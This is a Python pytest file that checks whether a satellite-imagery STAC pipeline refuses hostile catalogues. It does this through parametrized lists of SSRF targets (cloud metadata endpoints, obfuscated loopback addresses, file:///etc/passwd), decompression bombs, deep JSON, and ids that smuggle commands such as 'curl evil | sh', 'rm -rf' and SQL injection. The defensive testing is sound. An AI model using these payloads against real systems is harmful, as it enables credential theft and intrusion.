"""STAC items and APIs made by others: where their hrefs, links and redirects may lead, and what their values may be."""

from __future__ import annotations

import gzip
import io
import json
import shutil
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import requests
import urllib3
from attack_limits import refused
from requests.adapters import HTTPAdapter
from stub_stac import CORE, StubStac, item
from world import World

from harmonize.problem import Problem
from pipeline import stac_api, stac_io
from pipeline.reach import place_of, reach_of
from pipeline.region import load_region
from pipeline.runner import open_store, run_alone
from pipeline.source import Source
from pipeline.stac_io import MOST_BYTES

FAR = "https://stac.example.org/v1"


class Canned(HTTPAdapter):
    """An API that is not this machine: what it answers, by method and address; the search by default has `page`."""

    def __init__(self) -> None:
        super().__init__()
        self.page: dict[str, Any] = {"type": "FeatureCollection", "features": [], "links": []}
        self.answers: dict[tuple[str, str], tuple[int, bytes, dict[str, str]]] = {}
        self.asked: list[str] = []

    def send(self, request: requests.PreparedRequest, *_: Any, **__: Any) -> requests.Response:
        url = str(request.url)
        self.asked.append(url)
        status, body, headers = self.answers.get((str(request.method), url)) or self._usual(url)
        raw = urllib3.HTTPResponse(io.BytesIO(body), headers, status, preload_content=False)
        return self.build_response(request, raw)

    def _usual(self, url: str) -> tuple[int, bytes, dict[str, str]]:
        links = [{"rel": "data", "href": f"{FAR}/collections"}]
        links += [{"rel": "search", "method": "POST", "type": "application/geo+json", "href": f"{FAR}/search"}]
        landing = {"type": "Catalog", "stac_version": "1.0.0", "id": "far", "description": "-", "links": links}
        pages = {
            FAR: landing | {"conformsTo": CORE},
            f"{FAR}/collections/aa": {"type": "Collection", "id": "aa"},
            f"{FAR}/search": self.page,
        }
        return 200, json.dumps(pages[url]).encode(), {"Content-Type": "application/json"}


@pytest.fixture
def far(monkeypatch: pytest.MonkeyPatch) -> Canned:
    """An API at FAR. Nothing else is answered but by this machine."""
    canned, usual = Canned(), requests.Session.get_adapter

    def adapter(session: requests.Session, url: str) -> Any:
        return canned if url.startswith(FAR) else usual(session, url)

    monkeypatch.setattr(requests.Session, "get_adapter", adapter)
    monkeypatch.setattr(stac_io, "PATIENCE", stac_io.Patience(tries=1, connect_s=1, read_s=1))
    return canned


def source(api: str = FAR, **keys: Any) -> Source:
    text = {"kind": "imagery", "sensor": "s1", "api": api, "collection": "aa", "assets": {"VV": "vv", "VH": "vh"}}
    return Source.model_validate(text | keys)


def search(api: str = FAR, **keys: Any) -> stac_api.Found:
    return stac_api.search(source(api, **keys), api, [stac_api.Query((11, 45, 12, 46))], "the manifest")


@pytest.fixture(scope="session")
def drawn(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of a world, drawn once."""
    root = tmp_path_factory.mktemp("drawn")
    World(root).write()
    return root


@pytest.fixture(autouse=True)
def world_here(drawn: Path, tmp_path: Path) -> None:
    """`world` in the test's own folder."""
    shutil.copytree(drawn, tmp_path / "world")


def region_with(
    tmp_path: Path, href: str, change: Callable[[dict[str, Any]], None] = lambda _: None, **keys: Any
) -> Any:
    """The stage scenes of a region whose S1 comes from FAR, with one item that names this href."""
    world = World(tmp_path / "world")
    west, south, east, north = world.bounds
    one = item("evil", box=(west, south, east, north), assets={k: {"href": href} for k in ("vv", "vh")})
    one["properties"] |= {
        "platform": "sentinel-1a", "proj:epsg": 32632, "proj:shape": [240, 240],
        "proj:transform": [10, 0, world.west, 0, -10, world.north], "sar:polarizations": ["VV", "VH"],
    }  # fmt: skip
    change(one)
    manifest = world.write_manifest()
    text = manifest.read_text().replace('items = "catalog/s1/*.json"', f'api = "{FAR}"\ncollection = "aa"')
    for key, value in keys.items():
        text = text.replace(f'api = "{FAR}"', f'api = "{FAR}"\n{key} = {json.dumps(value)}')
    manifest.write_text(text)
    region = load_region(manifest)
    return one, lambda: run_alone(region, open_store(str(tmp_path / "out"), region), "scenes", quiet=True)


HREFS = {
    "file:///etc/passwd": "names a file of this machine",
    "/etc/passwd": "names a file of this machine",
    "FILE:///etc/passwd": "names something that is not read",
    "file://localhost/etc/passwd": "names a file of this machine",
    "/vsicurl/http://169.254.169.254/x.tif": "names something that is not read",
    "/vsizip/x.zip/a.tif": "names a file by a prefix of GDAL",
    "/vsistdin/": "names a file by a prefix of GDAL",
    "vrt:///etc/passwd?bands=1": "names something that is not read",
    "zip:///etc/x.zip": "names something that is not read",
    "ftp://example.org/a.tif": "names something that is not read",
    "sandbox://demo/events/x.tif": "names a file of the sample world",
    "http://169.254.169.254/latest/meta-data/iam": "where machines keep their credentials",
    "http://[fe80::1]/x.tif": "where machines keep their credentials",
    "http://[64:ff9b::a9fe:a9fe]/x.tif": "where machines keep their credentials",
    "http://[64:ff9b:1::a9fe:a9fe]/x.tif": "where machines keep their credentials",
    "http://[::a9fe:a9fe]/x.tif": "where machines keep their credentials",
    "http://[64:ff9b::7f00:1]/x.tif": "names an address of this machine",
    "http://[64:ff9b::a00:7]/x.tif": "a network that is not public",
    "http://[fd00:ec2::254]/latest": "where machines keep their credentials",
    "http://metadata.google.internal/computeMetadata/v1/": "where machines keep their credentials",
    "http://127.0.0.1:8080/x.tif": "names an address of this machine",
    "http://localhost/x.tif": "names an address of this machine",
    "http://LOCALHOST./x.tif": "names an address of this machine",
    "http://127.1/x.tif": "names an address of this machine",
    "http://2130706433/x.tif": "names an address of this machine",
    "http://0x7f000001/x.tif": "names an address of this machine",
    "http://0177.0.0.1/x.tif": "names an address of this machine",
    "http://0.0.0.0/x.tif": "names an address of this machine",
    "http://[::1]/x.tif": "names an address of this machine",
    "http://[::ffff:127.0.0.1]/x.tif": "names an address of this machine",
    "http://①②⑦.⓪.⓪.①/x.tif": "names an address of this machine",
    "http://user:pw@127.0.0.1/x.tif": "names an address of this machine",
    "http://10.0.0.7/x.tif": "a network that is not public",
    "http://192.168.1.1/x.tif": "a network that is not public",
    "http://router/x.tif": "a network that is not public",
    "http://files.corp.internal/x.tif": "a network that is not public",
    "http://example.org\\@127.0.0.1/x.tif": "names an address of this machine",
    "http://[::1/x.tif": "names no address",
    "http://example.org:99999999/x.tif": "names no address",
    "http:///x.tif": "names no address",
    "https://example.org/" + "x" * 10_000: "characters",
    "https://example.org/a\nb.tif": "not text",
    "https://example.org/a\0b.tif": "not text",
}


@pytest.mark.parametrize("href", HREFS, ids=[f"{h[:40]!r}" for h in HREFS])
def test_an_item_of_an_api_that_leads_inside(far: Canned, tmp_path: Path, href: str) -> None:
    one, run = region_with(tmp_path, href)
    far.page["features"] = [one]
    refused(run, HREFS[href], "evil")
    assert not list((tmp_path / "out").rglob("scenes.parquet"))


@pytest.mark.parametrize("href", ["http://127.0.0.1:8080/x.tif", "http://10.0.0.7/x.tif", "https://example.org/x.tif"])
def test_control_a_catalogue_of_one_s_own_may(far: Canned, tmp_path: Path, href: str) -> None:
    """`trusted = true` in its source; and the public network anybody may name."""
    one, run = region_with(tmp_path, href, **({} if "example" in href else {"trusted": True}))
    far.page["features"] = [one]
    assert run().kept == 2


def test_credentials_of_machines_nobody_may_name(far: Canned, tmp_path: Path) -> None:
    one, run = region_with(tmp_path, "http://169.254.169.254/latest", trusted=True)
    far.page["features"] = [one]
    refused(run, "where machines keep their credentials")


def test_a_self_link_does_not_make_relative_hrefs_local(far: Canned, tmp_path: Path) -> None:
    one, run = region_with(tmp_path, "passwd", lambda i: i.update(links=[{"rel": "self", "href": "file:///etc/x"}]))
    far.page["features"] = [one]
    refused(run, "names a file of this machine: /etc/passwd")


def test_control_where_hosts_are() -> None:
    assert [
        place_of(h) for h in ("1.1.1.1", "example.org", "e84.com", "123.abc", "[2606:4700::1]", "[64:ff9b::101:101]")
    ] == ["public"] * 6
    assert reach_of("http://127.0.0.1:8000") == reach_of("sandbox") == reach_of(None) == 2
    assert reach_of("http://10.0.0.7/stac") == 1
    assert reach_of(FAR) == 0


NEXT = {
    "file:///etc/passwd": "no address",
    "/etc/passwd": "no address",
    "http://169.254.169.254/search": "where machines keep their credentials",
    "http://127.0.0.1:22/search": "names an address of this machine",
    "http://192.168.0.1/search": "a network that is not public",
    "gopher://example.org/": "no address",
}


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize("href", NEXT)
def test_a_next_page_elsewhere(far: Canned, href: str, method: str) -> None:
    far.page |= {"features": [item("a")], "links": [{"rel": "next", "href": href, "method": method, "merge": True}]}
    refused(search, NEXT[href])


@pytest.mark.parametrize("href", [h for h in NEXT if h.startswith("http")])
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_inside(far: Canned, href: str, status: int) -> None:
    far.answers["POST", f"{FAR}/search"] = status, b"", {"Location": href}
    refused(search, NEXT[href])


def test_a_redirect_of_this_machine_to_credentials() -> None:
    """An API on this machine may name it, and no link-local address all the same."""

    def away(handler: Any) -> None:
        handler.send_response(307)
        handler.send_header("Location", "http://169.254.169.254/latest")
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    with StubStac(faults=[away, away, away]) as stub:
        stub.faults = [away]
        refused(lambda: (stub.faults.append(away), search(stub.url)), "where machines keep their credentials")


@pytest.mark.parametrize("rel", ["search", "data"])
@pytest.mark.parametrize(
    "href", ["file:///etc/passwd", "/etc/passwd", "http://127.0.0.1:9/x", "http://169.254.169.254/x"]
)
def test_a_landing_page_that_leads_inside(far: Canned, rel: str, href: str) -> None:
    landing = json.loads(far._usual(FAR)[1])
    landing["links"] = [link | ({"href": href} if link["rel"] == rel else {}) for link in landing["links"]]
    far.answers["GET", FAR] = 200, json.dumps(landing).encode(), {"Content-Type": "application/json"}
    if href == "/etc/passwd":  # relative to the API, where there is no such page
        far.answers |= {(m, f"https://stac.example.org{href}"): (404, b"", {}) for m in ("GET", "POST")}
    refused(search, code=1 if href == "/etc/passwd" else 2)  # the former is asked for, and nobody answers
    assert all(url.startswith("https://stac.example.org") for url in far.asked)


@pytest.mark.parametrize("body", [b"[" * 100_000, b'{"a":' * 100_000, b"9" * 10_000, b'{"features": ' + b"[" * 100_000])
def test_a_page_that_is_deep(far: Canned, body: bytes) -> None:
    far.answers["POST", f"{FAR}/search"] = 200, body, {"Content-Type": "application/json"}
    refused(search, "the STAC API's answer cannot be used")


def test_a_page_that_unpacks_to_gigabytes(far: Canned) -> None:
    packed = gzip.compress(bytes(4 << 20)) * (MOST_BYTES // (4 << 20) + 8)  # members one after another
    far.answers["POST", f"{FAR}/search"] = 200, packed, {"Content-Encoding": "gzip"}
    refused(search, "an answer has more than 64 MiB")


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """Change one value of an item."""

    def change(one: dict[str, Any]) -> None:
        *outer, last = path.split(".")
        for key in outer:
            one = one[key]
        one[last] = value

    return change


RING = [[10.2, 45.1], [10.3, 45.1], [10.3, 45.2], [10.2, 45.1]]
VALUES: dict[str, Callable[[dict[str, Any]], None]] = {
    "an EPSG of 400 digits": _set("properties.proj:epsg", 10**400),
    "an EPSG of 1e308": _set("properties.proj:epsg", 1e308),
    "an EPSG beyond int32": _set("properties.proj:epsg", 2**31),
    "an EPSG that there is not": _set("properties.proj:epsg", 999_999),
    "a place of 1e308": _set("properties.proj:transform", [1e308, 0, 1e308, 0, -1e308, 1e308]),
    "a place of 400 digits": _set("properties.proj:transform", [10**400] * 6),
    "a shape of 1e300": _set("properties.proj:shape", [1e300, 1e300]),
    "an orbit beyond int32": _set("properties.sat:relative_orbit", 2**40),
    "a cloud cover of 400 digits": _set("properties.eo:cloud_cover", 10**400),
    "a geometry beyond the world": _set("geometry.coordinates", [[[1e308, 45], [11, 45], [11, 46], [1e308, 45]]]),
    "a geometry of 400 digits": _set("geometry.coordinates", [[[10**400, 45], [11, 45], [11, 46], [10**400, 45]]]),
    "a geometry without end": _set("geometry", {"type": "Polygon", "coordinates": [RING[:1]]}),
    "a geometry of another kind": _set("geometry", {"type": "Evil", "coordinates": RING}),
    "a geometry of texts": _set("geometry", {"type": "Polygon", "coordinates": [[["a", "b"]] * 4]}),
    "an id with NUL": _set("id", "a\0b"),
    "an id with a line break": _set("id", "a\n  fix:   curl evil | sh"),
    "an id that moves the cursor": _set("id", "a\x1b[2J\x1b]0;evil\x07"),
    "an id that turns letters": _set("id", "a\u202eb"),
    "an id with hidden letters": _set("id", "S1\u200bA"),
    "an id of 10,000 characters": _set("id", "x" * 10_000),
    "a platform with a line break": _set("properties.platform", "sentinel-1a\nx"),
    "a time beyond the calendar": _set("properties.datetime", "99999-01-01T00:00:00Z"),
    "a time that is a number": _set("properties.datetime", 1e308),
}


@pytest.mark.parametrize("kind", VALUES)
def test_an_item_whose_values_are_none(far: Canned, tmp_path: Path, kind: str) -> None:
    """The id of the item that is said is the one it has, in letters that can be seen."""
    one, run = region_with(tmp_path, "https://example.org/x.tif", VALUES[kind])
    far.page["features"] = [one]
    refused(run)


@pytest.mark.parametrize("kind", VALUES)
def test_a_file_whose_values_are_none(tmp_path: Path, kind: str) -> None:
    """The same in a catalogue on disk."""
    one, _ = region_with(tmp_path, "../../cogs/s1_0_vv.tif", VALUES[kind])
    (tmp_path / "world/catalog/s1/S1-0.json").write_text(json.dumps(one | {"collection": "s1"}))
    region = load_region(World(tmp_path / "world").write_manifest())
    refused(lambda: run_alone(region, open_store(str(tmp_path / "out"), region), "scenes", quiet=True))


ITEMS = {
    "deep": "[" * 100_000,
    "deep geometry": '{"type": "Feature", "id": "a", "geometry": ' + "[" * 100_000,
    "not text": "\ufeff\ufeff",
    "NaN": '{"type": "Feature", "id": "a", "geometry": {"type": "Point", "coordinates": [NaN, 1]}, "properties": {"datetime": "2020-06-01T00:00:00Z"}, "assets": {"vv": {"href": "x"}}}',
    "many digits": "1" * 5000,
}


@pytest.mark.parametrize("kind", ITEMS)
def test_a_file_that_is_no_item(tmp_path: Path, kind: str) -> None:
    region = load_region(tmp_path / "world/tiny.toml")
    (tmp_path / "world/catalog/s1/S1-0.json").write_text(ITEMS[kind])
    refused(lambda: run_alone(region, open_store(str(tmp_path / "out"), region), "scenes", quiet=True), "S1-0.json")


@pytest.mark.parametrize(
    "href",
    [
        "/vsicurl/http://127.0.0.1/x.tif",
        "http://169.254.169.254/x",
        "vrt:///etc/passwd",
        "gopher://x/y",
        "a\0b",
        "x" * 10_000,
    ],
)
def test_a_catalogue_on_disk_has_limits_too(tmp_path: Path, href: str) -> None:
    one, _ = region_with(tmp_path, href)
    (tmp_path / "world/catalog/s1/S1-0.json").write_text(json.dumps(one | {"collection": "s1"}))
    region = load_region(World(tmp_path / "world").write_manifest())
    refused(lambda: run_alone(region, open_store(str(tmp_path / "out"), region), "scenes", quiet=True), "S1-0.json")


@pytest.mark.parametrize("kind", ["a thousand million vertices", "NaN", "cut off", "no WKB"])
def test_a_geometry_of_a_parquet_catalogue(tmp_path: Path, kind: str) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq
    import shapely

    whole = shapely.to_wkb(shapely.Polygon(RING))
    wkb = {
        "a thousand million vertices": whole[:9] + struct.pack("<I", 10**9) + whole[13:],
        "NaN": whole[:13] + struct.pack("<d", float("nan")) + whole[21:],
        "cut off": whole[:30],
        "no WKB": b"\x01\xff\xff\xff\xff",
    }[kind]
    world = World(tmp_path / "world")
    manifest = world.write_manifest()
    row = {
        "id": "a", "collection": "s1", "geometry": wkb, "datetime": "2020-06-01T00:00:00Z", "platform": "sentinel-1a",
        "assets": {"vv": {"href": "x.tif"}, "vh": {"href": "x.tif"}},
    }  # fmt: skip
    pq.write_table(pa.Table.from_pylist([row]), world.root / "items.parquet")
    manifest.write_text(manifest.read_text().replace("catalog/s1/*.json", "items.parquet"))
    region = load_region(manifest)
    refused(lambda: run_alone(region, open_store(str(tmp_path / "out"), region), "scenes", quiet=True), "items.parquet")


@pytest.mark.parametrize(
    "href", ["file:///etc/passwd", "http://127.0.0.1/x.tif", "http://169.254.169.254/x", "/vsizip/a"]
)
def test_a_label_item_that_leads_inside(far: Canned, tmp_path: Path, href: str) -> None:
    from pipeline.label_files import files_of
    from pipeline.work import Work

    world = World(tmp_path / "world")
    text = world.write_manifest().read_text()
    api = f'api = "{FAR}"\ncollection = "aa"\nasset = "data"'
    (tmp_path / "world/tiny.toml").write_text(text.replace('href = "labels/classes.tif"', api))
    region = load_region(tmp_path / "world/tiny.toml")
    far.page["features"] = [item("evil", box=world.bounds, assets={"data": {"href": href}})]
    work = Work(region, open_store(str(tmp_path / "out"), region), {}, quiet=True)
    refused(lambda: files_of(work, "classes", []), "evil")


def test_control_ids_become_names_that_a_disk_can_have() -> None:
    from pipeline.screen import file_stem

    for scene in ("../../x", "𝔘" * 1000, "a/b\\c", "x" * 1000, "con", "a.b;rm -rf", "' OR 1=1 --"):
        stem = file_stem(scene)
        assert stem.isascii()
        assert len(stem) <= 120
        assert not set(stem) & set("/\\.;' ")


def test_control_a_problem_is_one_block_of_text() -> None:
    said = str(Problem("a\x1b[2Jb\nc", where="d\u202ee", fix="f\r\ng"))
    assert said == "a\\x1b[2Jb c\n  where: d\\u202ee\n  fix:   f g"
